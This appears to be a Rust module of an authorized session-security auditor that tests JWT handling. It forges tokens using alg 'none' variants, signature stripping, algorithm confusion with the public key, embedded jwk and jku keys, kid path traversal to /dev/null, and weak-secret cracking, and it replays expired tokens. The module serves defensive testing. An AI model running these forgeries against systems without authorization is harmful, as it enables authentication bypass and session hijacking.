//! `jwt`: forged and tampered tokens in place of the session's JWT, the token's
//! own `exp`, and — within `--max-wait` — the genuine token replayed after it
//! expired.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use jsonwebtoken::Algorithm;
use serde_json::{Map, Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::agent::{Agent, Fail, Pw, Session, json_path};
use crate::http::Request;
use crate::jwt::{AttackerKey, Jwt, hmac, hmac_alg, public_key_forms, sign_hmac, weak_secrets};
use crate::model::{CheckId, CheckReport, Evidence, Severity};

use super::{human, keepalive, live_session, wait_until};

/// Tolerated clock skew on `exp` before an expired token counts as accepted: 60 s
/// is the default leeway of common verifiers (Spring Security, jsonwebtoken).
pub(super) const EXP_LEEWAY: Duration = Duration::from_secs(60);

/// A way the auditor found to make tokens the server accepts.
enum Signer {
    /// Unsigned with this `alg` spelling.
    Unsigned(String),
    /// The original header, no signature.
    Stripped,
    /// HMAC with a known key.
    Hmac(Algorithm, Vec<u8>, Map<String, Value>),
    /// The auditor's own key, named in the header.
    Attacker(AttackerKey, Map<String, Value>),
}

/// The forgery results, finished after the long waits.
pub(super) struct Parts {
    subject: Option<(Jwt, String, Session)>,
    reason: String,
    found: Vec<(Severity, String)>,
    ev: Vec<Evidence>,
    notes: Vec<String>,
    signer: Option<Signer>,
}

fn now_secs() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_secs() as i64)
}

fn claims_of(j: &Jwt) -> Value {
    Value::Object(j.claims.clone())
}

impl Parts {
    fn forge(&self, signer: &Signer, claims: &Value) -> String {
        let (j, _, _) = self.subject.as_ref().expect("a JWT subject");
        match signer {
            Signer::Unsigned(alg) => {
                let mut h = j.header.clone();
                h.insert("alg".into(), Value::String(alg.clone()));
                format!("{}.", crate::jwt::signing_input(&Value::Object(h), claims))
            }
            Signer::Stripped => format!(
                "{}.",
                crate::jwt::signing_input(&Value::Object(j.header.clone()), claims)
            ),
            Signer::Hmac(alg, key, header) => {
                sign_hmac(*alg, key, &Value::Object(header.clone()), claims)
            }
            Signer::Attacker(k, header) => k.sign(header.clone(), claims),
        }
    }
}

/// Tries `token` in place of the session's; records a finding when accepted.
async fn try_forged(
    agent: &Agent,
    parts: &mut Parts,
    what: &str,
    token: &str,
    signer: Option<Signer>,
) -> Result<bool, Fail> {
    agent.secret(token, crate::redact::Kind::Session);
    let (ok, ex) = agent.probe(&agent.replay(token)).await?;
    if ok {
        parts
            .found
            .push((Severity::High, format!("{what} is accepted")));
        parts
            .ev
            .push(agent.evidence(format!("{what}: accepted"), &ex));
        if parts.signer.is_none() {
            parts.signer = signer;
        }
    } else {
        parts.notes.push(format!("{what}: refused ({})", ex.status));
    }
    Ok(ok)
}

/// The app's published public keys (JWKS at the well-known path, or through
/// OpenID discovery).
async fn jwks(agent: &Agent) -> Result<Option<(String, Vec<Value>)>, Fail> {
    let keys_of = |v: &Value| {
        v.get("keys")
            .and_then(Value::as_array)
            .filter(|k| !k.is_empty())
            .cloned()
    };
    let ex = agent
        .send(Request::new("GET", "/.well-known/jwks.json"))
        .await?;
    if let Some(k) = ex
        .json()
        .as_ref()
        .and_then(keys_of)
        .filter(|_| ex.status == 200)
    {
        return Ok(Some(("/.well-known/jwks.json".into(), k)));
    }
    let ex = agent
        .send(Request::new("GET", "/.well-known/openid-configuration"))
        .await?;
    let uri = ex
        .json()
        .as_ref()
        .and_then(|v| json_path(v, "jwks_uri"))
        .and_then(Value::as_str)
        .map(str::to_owned);
    if let Some(uri) = uri.filter(|_| ex.status == 200) {
        let ex = agent.send(Request::new("GET", &uri)).await?;
        if let Some(k) = ex.json().as_ref().and_then(keys_of) {
            return Ok(Some((uri, k)));
        }
    }
    Ok(None)
}

/// Serves `body` at `http://ADDR/jwks.json` on the local address that reaches
/// the target, counting fetches. The task ends when the returned handle drops.
async fn serve_jwks(
    agent: &Agent,
    body: String,
) -> Option<(String, Arc<AtomicUsize>, tokio::task::JoinHandle<()>)> {
    let host = agent
        .recipe
        .target
        .split("://")
        .nth(1)?
        .split(['/', ':'])
        .next()?
        .trim_matches(['[', ']'])
        .to_owned();
    let local = if host == "localhost"
        || host
            .parse::<std::net::IpAddr>()
            .is_ok_and(|ip| ip.is_loopback())
    {
        std::net::IpAddr::from([127, 0, 0, 1])
    } else {
        let sock = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
        sock.connect((host.as_str(), 80)).ok()?;
        sock.local_addr().ok()?.ip()
    };
    let listener = tokio::net::TcpListener::bind((local, 0)).await.ok()?;
    let addr = listener.local_addr().ok()?;
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    let task = tokio::spawn(async move {
        while let Ok((mut sock, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
            let body = body.clone();
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = tokio::time::timeout(Duration::from_secs(5), sock.read(&mut buf)).await;
                let res = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = sock.write_all(res.as_bytes()).await;
            });
        }
    });
    Some((format!("http://{addr}/jwks.json"), hits, task))
}

/// The forgeries, right after the self-test.
pub(super) async fn forgeries(agent: &Agent) -> Result<Parts, Fail> {
    let mut parts = Parts {
        subject: None,
        reason: String::new(),
        found: Vec::new(),
        ev: Vec::new(),
        notes: Vec::new(),
        signer: None,
    };
    let session = match live_session(agent, Pw::Original).await {
        Ok(s) => s,
        Err(Fail::Step(r)) => {
            parts.reason = r;
            return Ok(parts);
        }
        Err(e) => return Err(e),
    };
    let token = agent.token_of(&session).unwrap_or_default();
    let Some(j) = Jwt::parse(&token) else {
        parts.reason = "the session identifier is not a JWT".into();
        return Ok(parts);
    };
    let alg = j.alg().to_owned();
    parts.ev.push(agent.fact(format!(
        "the session is a JWT: alg {alg}{}",
        j.header
            .get("kid")
            .map(|_| ", with a kid")
            .unwrap_or_default()
    )));
    let claims = claims_of(&j);
    parts.subject = Some((j.clone(), token.clone(), session));

    // alg none, in the spellings verifiers have been fooled by.
    for variant in ["none", "None", "NONE", "nOnE"] {
        let forged = parts.forge(&Signer::Unsigned(variant.into()), &claims);
        if try_forged(
            agent,
            &mut parts,
            &format!("alg \"{variant}\" without a signature"),
            &forged,
            Some(Signer::Unsigned(variant.into())),
        )
        .await?
        {
            break;
        }
    }
    let stripped = parts.forge(&Signer::Stripped, &claims);
    try_forged(
        agent,
        &mut parts,
        "the signature stripped",
        &stripped,
        Some(Signer::Stripped),
    )
    .await?;
    let mut tampered = token.clone();
    let last = tampered.pop().unwrap_or('A');
    tampered.push(if last == 'A' { 'B' } else { 'A' });
    try_forged(agent, &mut parts, "a tampered signature", &tampered, None).await?;

    // Algorithm confusion: HMAC keyed with the public key.
    if hmac_alg(&alg).is_none() {
        match jwks(agent).await? {
            None => parts.notes.push(
                "HS256 with the public key: not measured, no JWKS at /.well-known/jwks.json or \
                 through /.well-known/openid-configuration"
                    .into(),
            ),
            Some((at, keys)) => {
                let kid = j.header.get("kid");
                let chosen: Vec<&Value> = keys
                    .iter()
                    .filter(|k| kid.is_none() || k.get("kid") == kid)
                    .collect();
                let mut header = j.header.clone();
                header.insert("alg".into(), json!("HS256"));
                let mut tried = 0;
                'keys: for k in chosen {
                    for (form, bytes) in public_key_forms(k) {
                        tried += 1;
                        let forged = sign_hmac(
                            Algorithm::HS256,
                            &bytes,
                            &Value::Object(header.clone()),
                            &claims,
                        );
                        let signer = Signer::Hmac(Algorithm::HS256, bytes, header.clone());
                        if try_forged(
                            agent,
                            &mut parts,
                            &format!("HS256 keyed with the public key ({form})"),
                            &forged,
                            Some(signer),
                        )
                        .await?
                        {
                            break 'keys;
                        }
                    }
                }
                parts.notes.push(format!(
                    "HS256 with the public key: {tried} key encodings tried, from {at}"
                ));
            }
        }
    }

    // The auditor's own key, embedded (jwk) or at a URL (jku).
    match AttackerKey::for_alg(&alg) {
        None => parts.notes.push(format!(
            "embedded jwk and jku: not measured, the auditor makes keys for EdDSA, ES256 and HS* only (the token is {alg})"
        )),
        Some(k) => {
            let mut header = j.header.clone();
            header.insert("jwk".into(), k.jwk.clone());
            header.insert("kid".into(), json!(k.kid));
            let forged = k.sign(header.clone(), &claims);
            try_forged(agent, &mut parts, "a token signed with a key embedded in its jwk header", &forged, Some(Signer::Attacker(k, header))).await?;
        }
    }
    if let Some(k) = AttackerKey::for_alg(&alg) {
        match serve_jwks(agent, k.jwks().to_string()).await {
            None => parts
                .notes
                .push("jku: not measured, no local address reaches the target".into()),
            Some((url, hits, task)) => {
                let mut header = j.header.clone();
                header.insert("jku".into(), json!(url));
                header.insert("kid".into(), json!(k.kid));
                let forged = k.sign(header.clone(), &claims);
                let ok = try_forged(
                    agent,
                    &mut parts,
                    "a token whose jku names the auditor's key set",
                    &forged,
                    None,
                )
                .await?;
                let fetched = hits.load(Ordering::SeqCst);
                if fetched > 0 {
                    parts.notes.push(format!(
                        "jku: the server fetched the auditor's URL {fetched} time(s)"
                    ));
                }
                if ok && parts.signer.is_none() {
                    parts.signer = Some(Signer::Attacker(k, header));
                }
                task.abort();
            }
        }
    }

    // kid pointing at an empty file, with HMAC over the empty key.
    for kid in ["../../../../../../../../../../dev/null", "/dev/null"] {
        let mut header = j.header.clone();
        header.insert("alg".into(), json!("HS256"));
        header.insert("kid".into(), json!(kid));
        let forged = sign_hmac(
            Algorithm::HS256,
            b"",
            &Value::Object(header.clone()),
            &claims,
        );
        let signer = Signer::Hmac(Algorithm::HS256, Vec::new(), header);
        if try_forged(
            agent,
            &mut parts,
            &format!("kid {kid:?} with an empty HMAC key"),
            &forged,
            Some(signer),
        )
        .await?
        {
            break;
        }
    }

    // Weak HMAC secrets, offline.
    if let Some(a) = hmac_alg(&alg) {
        let found = weak_secrets().find(|s| hmac(a, s.as_bytes(), &j.signing_input) == j.signature);
        match found {
            Some(secret) => {
                let shown = if secret.is_empty() {
                    "the empty secret".to_owned()
                } else {
                    format!(
                        "a secret from the bundled list of {} weak ones",
                        weak_secrets().count()
                    )
                };
                parts
                    .found
                    .push((Severity::High, format!("the token is signed with {shown}")));
                let mut c = j.claims.clone();
                c.insert("jti".into(), json!(format!("audit-{}", now_secs())));
                let forged = sign_hmac(
                    a,
                    secret.as_bytes(),
                    &Value::Object(j.header.clone()),
                    &Value::Object(c),
                );
                agent.secret(&forged, crate::redact::Kind::Session);
                let (ok, ex) = agent.probe(&agent.replay(&forged)).await?;
                parts.ev.push(agent.evidence(
                    format!(
                        "a token re-signed with {shown}: {}",
                        if ok { "accepted" } else { "refused" }
                    ),
                    &ex,
                ));
                if parts.signer.is_none() {
                    parts.signer = Some(Signer::Hmac(
                        a,
                        secret.as_bytes().to_vec(),
                        j.header.clone(),
                    ));
                }
            }
            None => parts.notes.push(format!(
                "weak HMAC secret: none of the {} bundled secrets signs the token",
                weak_secrets().count()
            )),
        }
    }

    // The token's own lifetime.
    match (j.time_claim("exp"), j.time_claim("iat")) {
        (None, _) => parts.found.push((
            Severity::Medium,
            "the token has no exp claim: it never expires by itself".into(),
        )),
        (Some(exp), iat) => {
            let from = iat.unwrap_or_else(now_secs);
            let life = Duration::from_secs((exp - from).max(0) as u64);
            let claim = agent.recipe.claims.absolute_timeout;
            if life > claim {
                parts.found.push((Severity::Low, format!(
                    "the token's exp is {} after it was issued, longer than the absolute timeout of {}",
                    human(life),
                    human(claim)
                )));
            } else {
                parts
                    .notes
                    .push(format!("exp: {} after issue", human(life)));
            }
        }
    }
    Ok(parts)
}

/// Expired and future tokens, then the report.
pub(super) async fn finish(agent: &Agent, mut parts: Parts) -> Result<CheckReport, Fail> {
    let id = CheckId::Jwt;
    let Some((j, token, session)) = parts.subject.take() else {
        return Ok(CheckReport::not_tested(id, parts.reason));
    };
    parts.subject = Some((j.clone(), token.clone(), session));
    let now = now_secs();

    // With a way to sign, whether exp and nbf are checked at all.
    if let Some(signer) = parts.signer.take() {
        let mut c = j.claims.clone();
        c.insert("exp".into(), json!(now - 86_400));
        c.insert("iat".into(), json!(now - 90_000));
        let expired = parts.forge(&signer, &Value::Object(c));
        agent.secret(&expired, crate::redact::Kind::Session);
        let (ok, ex) = agent.probe(&agent.replay(&expired)).await?;
        parts.ev.push(agent.evidence(
            format!(
                "forged, expired a day ago: {}",
                if ok { "accepted" } else { "refused" }
            ),
            &ex,
        ));
        let mut c = j.claims.clone();
        c.insert("nbf".into(), json!(now + 86_400));
        c.insert("iat".into(), json!(now + 86_400));
        let future = parts.forge(&signer, &Value::Object(c));
        agent.secret(&future, crate::redact::Kind::Session);
        let (ok, ex) = agent.probe(&agent.replay(&future)).await?;
        parts.ev.push(agent.evidence(
            format!(
                "forged, valid only from tomorrow: {}",
                if ok { "accepted" } else { "refused" }
            ),
            &ex,
        ));
    } else {
        parts
            .notes
            .push("expired and future tokens forged: not needed, no forgery was accepted".into());
    }

    // The genuine token replayed after its exp (plus the usual leeway).
    match j.time_claim("exp") {
        None => {}
        Some(exp) => {
            let left = Duration::from_secs((exp - now_secs()).max(0) as u64);
            let need = left + EXP_LEEWAY + Duration::from_secs(2);
            if need > agent.options.max_wait {
                parts.notes.push(format!(
                    "the genuine token after its exp: not measured, it expires in {} and the \
                     replay waits {} more (leeway), longer than --max-wait {}",
                    human(left),
                    human(EXP_LEEWAY + Duration::from_secs(2)),
                    human(agent.options.max_wait)
                ));
            } else {
                let cred = agent.replay(&token);
                let exp_at = Instant::now() + left;
                let until = exp_at + EXP_LEEWAY + Duration::from_secs(2);
                let every = keepalive(agent);
                let mut ended_early = None;
                // Keep the session active until exp, so that only exp can refuse it.
                while Instant::now() + every < exp_at {
                    wait_until(
                        agent,
                        "jwt: waiting for the token's exp",
                        Instant::now() + every,
                    )
                    .await;
                    let (ok, ex) = agent.probe(&cred).await?;
                    if !ok {
                        ended_early = Some(ex);
                        break;
                    }
                }
                match ended_early {
                    Some(ex) => parts.notes.push(format!(
                        "the genuine token after its exp: not measured, the session ended before exp ({})",
                        ex.status
                    )),
                    None => {
                        wait_until(agent, "jwt: replaying the token after its exp", until).await;
                        let (ok, ex) = agent.probe(&cred).await?;
                        let late = human(EXP_LEEWAY + Duration::from_secs(2));
                        if ok {
                            parts.found.push((Severity::Medium, format!("the genuine token is still accepted {late} after its exp")));
                            parts.ev.push(agent.evidence(format!("{late} after exp: accepted"), &ex));
                        } else {
                            parts.notes.push(format!("the genuine token is refused {late} after its exp ({})", ex.status));
                        }
                    }
                }
            }
        }
    }

    let mut r = match parts.found.iter().map(|f| f.0).max() {
        Some(sev) => CheckReport::vulnerable(
            id,
            sev,
            format!(
                "{}.",
                parts
                    .found
                    .iter()
                    .map(|f| f.1.as_str())
                    .collect::<Vec<_>>()
                    .join("; ")
            ),
        ),
        None => CheckReport::ok(
            id,
            "No forged or tampered token is accepted and the token's lifetime is bounded.",
        ),
    }
    .with_evidence(parts.ev);
    for n in parts.notes {
        r = r.note(n);
    }
    Ok(r)
}
